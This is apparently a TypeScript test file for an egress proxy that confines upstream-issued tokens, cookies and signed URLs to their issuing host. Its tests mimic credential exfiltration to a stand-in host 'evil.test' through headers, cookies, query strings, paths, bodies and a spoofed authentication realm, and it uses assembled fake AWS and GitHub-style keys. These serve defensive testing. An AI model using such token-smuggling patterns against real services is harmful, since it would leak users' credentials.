/** Tokens that upstreams give out go back to where they are for, and open no other host. */
import { randomBytes } from "node:crypto";
import type { IncomingMessage } from "node:http";
import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { INSPECTED, INSPECTED_MODEL } from "../../../../src/contract/policy.ts";
import { type Site, type Answer as SiteAnswer, sites } from "../../../support/egress-site.ts";
import { type Answer, ask, CANARY, KNOWN, KNOWN_VALUES } from "../../../support/inspected-site.ts";
import { checksummed } from "../../../support/secret-examples/checksummed.ts";

const REGISTRY = "registry-1.images.test";
const AUTH = "auth.images.test";
/** Belongs to somebody else, as those do that follow. */
const STORE = "objects.storage.test";
const API = "api.service.test";
const EVIL = "evil.test";
const MODEL = "model.test";

const { serve } = sites();

type Says = (request: IncomingMessage) => SiteAnswer | undefined;

async function start(says: Says): Promise<Site> {
  const site = await serve({
    hosts: [
      { host: MODEL, inspection: INSPECTED_MODEL },
      ...[REGISTRY, AUTH, STORE, API, EVIL].map((host) => ({ host, inspection: INSPECTED })),
    ],
    answer: (request) => says(request) ?? {},
  });
  await site.egress.reload({ ...site.policy, known: KNOWN_VALUES });
  return site;
}

/** Signed by nobody, but of the form. */
function jwt(claims: object = {}): string {
  const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString("base64url");
  const body = { iss: AUTH, jti: randomBytes(12).toString("hex"), ...claims };
  return [part({ alg: "ES256", typ: "JWT" }), part(body), randomBytes(64).toString("base64url")].join(".");
}

const json = (value: unknown, more: Readonly<Record<string, string>> = {}): SiteAnswer => ({
  headers: { "content-type": "application/json", ...more },
  body: JSON.stringify(value),
});
/** https://github.com/git-lfs/git-lfs/blob/main/docs/api/batch.md */
const batch = (href: string): SiteAnswer =>
  json(
    { transfer: "basic", objects: [{ oid: "00", size: 1, actions: { download: { href } } }] },
    { "content-type": "application/vnd.git-lfs+json" },
  );
const get = (site: Site, host: string, path: string, ...headers: string[]): Promise<Answer> =>
  ask(site, { method: "GET", host, path, headers });
const bearer = (token: string): string => `Authorization: Bearer ${token}`;
const code = ({ denied, status }: Answer): string | number => denied?.code ?? status;

/** Where `token` may go: of header, cookie, query, path and body, to each host. */
async function reach(site: Site, token: string): Promise<readonly string[]> {
  const open: string[] = [];
  for (const host of [REGISTRY, AUTH, STORE, API, EVIL]) {
    const ways: [string, Answer][] = [
      ["header", await get(site, host, "/x", bearer(token))],
      ["cookie", await get(site, host, "/x", `Cookie: a=b; session=${token}; c=d`)],
      ["query", await get(site, host, `/x?token=${token}&b=c`)],
      ["path", await get(site, host, `/x/${token}/y`)],
      ["body", await ask(site, { host, path: "/x", body: `{"said": "${token}"}` })],
    ];
    for (const [way, answer] of ways) if (answer.denied === undefined) open.push(`${way} ${host}`);
  }
  return open;
}

/** As the distribution's own specification has it, and Docker Hub does it. */
function registry(token: string, signed: string): Says {
  return ({ headers, url = "" }) => {
    if (headers.host === AUTH) return json({ token, access_token: token, expires_in: 300 });
    if (headers.host !== REGISTRY) return undefined;
    if (headers.authorization !== `Bearer ${token}`) {
      const realm = `Bearer realm="https://${AUTH}/token",service="registry",scope="repository:library/thing:pull"`;
      return { status: 401, headers: { "www-authenticate": realm }, body: "{}" };
    }
    if (!url.includes("/blobs/")) return json({ schemaVersion: 2, layers: [{ digest: "sha256:00" }] });
    return { status: 307, headers: { location: `https://${STORE}${signed}` }, body: "" };
  };
}

describe("pulling an image", () => {
  const token = jwt({ access: [{ type: "repository", name: "library/thing", actions: ["pull"] }] });
  const signed = `/registry-v2/blobs/sha256/00?verify=${jwt()}&X-Amz-Credential=${["AK", "IA"].join("")}Q3EGRIXDVB7EUT2N%2F20261121`;

  it("works as its registry wants it: challenge, token, manifest, layer, redirect", async () => {
    const site = await start(registry(token, signed));
    const manifest = "/v2/library/thing/manifests/latest";
    const challenged = await get(site, REGISTRY, manifest);
    expect(challenged.status).toBe(401);
    expect(challenged.header("www-authenticate")).toContain(`https://${AUTH}/token`);
    const given = await get(site, AUTH, "/token?service=registry&scope=repository%3Alibrary%2Fthing%3Apull");
    expect(JSON.parse(given.body.toString())).toMatchObject({ token });
    for (let i = 0; i < 3; i++) expect((await get(site, REGISTRY, manifest, bearer(token))).status).toBe(200);
    const moved = await get(site, REGISTRY, "/v2/library/thing/blobs/sha256:00", bearer(token));
    expect(moved.status).toBe(307);
    expect(
      (await get(site, STORE, moved.header("location")?.slice(`https://${STORE}`.length) ?? "")).status,
    ).toBe(200);
    expect(site.egress.events("egress.denied")).toEqual([]);
    expect(JSON.stringify(site.egress.messages)).not.toContain(token.slice(-40));
    expect(await reach(site, token)).toEqual([
      `header ${REGISTRY}`,
      `cookie ${REGISTRY}`,
      `header ${AUTH}`,
      `cookie ${AUTH}`,
    ]);
  });

  it("is nothing for a token that came from nowhere, or before the registry asked for it", async () => {
    const site = await start(registry(token, signed));
    expect(await reach(site, jwt())).toEqual([]);
    await get(site, AUTH, "/token");
    expect(code(await get(site, REGISTRY, "/v2/", bearer(token)))).toBe("secret-found");
    expect(code(await get(site, AUTH, "/v2/", bearer(token)))).toBe(200);
    expect(code(await get(site, STORE, signed))).toBe("secret-found");
  });

  it("is not done by another's registry with this one's tokens", async () => {
    const realms = [
      `Bearer realm="https://${AUTH}/token",service="evil"`,
      `Bearer realm="https://${AUTH}:8443/token"`,
      `Bearer realm="http://${AUTH}/token"`,
    ];
    for (const realm of realms) {
      const site = await start((request) =>
        request.headers.host === EVIL
          ? { status: 401, headers: { "www-authenticate": realm }, body: "" }
          : registry(token, signed)(request),
      );
      await get(site, EVIL, "/v2/");
      await get(site, AUTH, "/token");
      expect(code(await get(site, EVIL, "/v2/", bearer(token)))).toBe("secret-found");
    }
  });

  it("takes tokens from the endpoint that was named, and from nowhere else there", async () => {
    const site = await start(registry(token, signed));
    await get(site, REGISTRY, "/v2/");
    await get(site, AUTH, "/private/notes.json");
    expect(code(await get(site, REGISTRY, "/v2/", bearer(token)))).toBe("secret-found");
  });
});

describe("signing in to a service", () => {
  const access = jwt();
  const refresh = jwt();
  const session = jwt();
  const api: Says = ({ url }) => {
    if (url?.startsWith("/oauth/token") === true)
      return json({ access_token: access, refresh_token: refresh });
    if (url === "/login")
      return { headers: { "set-cookie": `sid=${session}; Path=/; HttpOnly` }, body: "in" };
    if (url === "/packed")
      return {
        headers: { "content-type": "application/json", "content-encoding": "gzip" },
        body: gzipSync(JSON.stringify({ data: { accessToken: access } })),
      };
    return undefined;
  };

  it("goes on with its access token, and renews it where it was given", async () => {
    const site = await start(api);
    await ask(site, { host: API, path: "/oauth/token", body: "grant_type=client_credentials" });
    expect(await reach(site, access)).toEqual([`header ${API}`, `cookie ${API}`]);
    const renew = (host: string, path: string): Promise<Answer> =>
      ask(site, { host, path, body: `grant_type=refresh_token&refresh_token=${refresh}&client_id=cli` });
    expect((await renew(API, "/oauth/token")).status).toBe(200);
    expect((await renew(API, "/oauth/token?tenant=one")).status).toBe(200);
    expect(code(await renew(API, "/comments"))).toBe("secret-found");
    const long = `/oauth/token/${"x".repeat(1_100)}`;
    await ask(site, { host: API, path: long, body: "grant_type=client_credentials" });
    expect(code(await renew(API, long))).toBe("secret-found");
    expect(code(await renew(EVIL, "/oauth/token"))).toBe("secret-found");
    // Another one beside it is still one, also in the same piece of base64.
    const pair = Buffer.from(`${access}:${jwt()}`).toString("base64");
    expect(code(await get(site, API, "/x", `Authorization: Basic ${pair}`))).toBe("secret-found");
    const both = `refresh_token=${refresh}&note=${jwt()}`;
    expect(code(await ask(site, { host: API, path: "/oauth/token", body: both }))).toBe("secret-found");
    expect(code(await get(site, API, "/x", bearer(access), `X-Note: ${jwt()}`))).toBe("secret-found");
  });

  it("goes on with a cookie, with a token out of a packed answer, and as Basic", async () => {
    const site = await start(api);
    await get(site, API, "/login");
    expect(await reach(site, session)).toEqual([`header ${API}`, `cookie ${API}`]);
    await get(site, API, "/packed", "Accept-Encoding: gzip");
    expect(await reach(site, access)).toEqual([`header ${API}`, `cookie ${API}`]);
    const basic = Buffer.from(`oauth2accesstoken:${access}`).toString("base64");
    expect((await get(site, API, "/x", `Authorization: Basic ${basic}`)).status).toBe(200);
    expect(code(await get(site, EVIL, "/x", `Authorization: Basic ${basic}`))).toBe("secret-found");
  });

  it("goes on over a new policy", async () => {
    const site = await start(api);
    await get(site, API, "/login");
    await site.egress.reload({ ...site.policy, known: [] });
    expect((await get(site, API, "/x", `Cookie: sid=${session}`)).status).toBe(200);
    await site.egress.reload({
      ...site.policy,
      known: [{ name: "S", kind: "known", value: session, to: [] }],
    });
    expect(code(await get(site, API, "/x", `Cookie: sid=${session}`))).toBe("secret-found");
  });
});

describe("an address that was handed out", () => {
  const jwtInUrl = jwt();
  const path = `/release/asset.tgz?sp=r&sig=abc%2B&jwt=${jwtInUrl}&response-content-type=application%2Foctet-stream`;

  it.each<[string, SiteAnswer]>([
    ["in a redirect", { status: 302, headers: { location: `https://${STORE}${path}` }, body: "" }],
    ["in a batch of large files", batch(`https://${STORE}${path}`)],
  ])("%s, is fetched from its host alone, and what is in it goes nowhere else", async (_where, answer) => {
    const site = await start(({ headers }) => (headers.host === API ? answer : undefined));
    expect(code(await get(site, STORE, path))).toBe("secret-found");
    // Seen from the guest first: it is not the upstream's any more.
    await get(site, API, "/download");
    expect(code(await get(site, STORE, path))).toBe("secret-found");

    const fresh = await start(({ headers }) => (headers.host === API ? answer : undefined));
    await get(fresh, API, "/download");
    expect((await get(fresh, STORE, path)).status).toBe(200);
    expect(code(await get(fresh, EVIL, path))).toBe("secret-found");
    expect(code(await get(fresh, API, path))).toBe("secret-found");
    expect(await reach(fresh, jwtInUrl)).toEqual([`query ${STORE}`, `path ${STORE}`]);
  });
});

describe("a secret that an allowed host repeats", () => {
  const stolen = jwt();
  const key = checksummed("ghp_", 30);

  it.each([
    ["a token", stolen],
    ["a key", key],
  ])("is no token of that host when the guest had %s before", async (_what, value) => {
    const echo = await start(() => json({ token: value, url: `https://${EVIL}/?a=${value}` }));
    expect(code(await ask(echo, { host: API, body: value }))).toBe("secret-found");
    await get(echo, API, "/echo");
    expect(await reach(echo, value)).toEqual([]);
    // Also when it was masked on its way to the model.
    const said = await start(() => json({ token: value }));
    expect((await ask(said, { host: MODEL, body: `see ${value} here` })).status).toBe(200);
    await get(said, API, "/echo");
    expect(await reach(said, value)).toEqual([]);
  });

  it("is never one when it is known, or the decoy", async () => {
    for (const value of [KNOWN, CANARY]) {
      const site = await start(() =>
        json({ token: value, access_token: `${jwt()}${value}` }, { "set-cookie": `a=${value}` }),
      );
      await get(site, API, "/echo");
      expect(await reach(site, value)).toEqual([]);
      expect(await reach(site, jwt())).toEqual([]);
    }
  });

  it.each<[string, SiteAnswer]>([
    ["a page", { headers: { "content-type": "text/html" }, body: `<p>token: ${stolen}</p>` }],
    ["a file", { headers: { "content-type": "text/plain" }, body: JSON.stringify({ token: stolen }) }],
    ["another field", json({ content: stolen, note: `token ${stolen}` })],
    [
      "an address that a model wrote",
      json({ content: [{ input: { url: `https://${STORE}/?t=${stolen}` } }] }),
    ],
    ["an address of what is no batch", json({ href: `https://${STORE}/?t=${stolen}` })],
    ["a long list", json({ token: stolen, padding: "x".repeat(70_000) })],
    ["a failure", { ...json({ token: stolen }), status: 500 }],
    ["an address without TLS", batch(`http://${STORE}/?t=${stolen}`)],
    ["an address of another port", batch(`https://${STORE}:8443/?t=${stolen}`)],
    ["no proper JSON", { headers: { "content-type": "application/json" }, body: `{"token": "${stolen}"` }],
  ])("is none where it stands in %s", async (_where, answer) => {
    const site = await start(() => answer);
    await get(site, API, "/x");
    expect(await reach(site, stolen)).toEqual([]);
  });
});
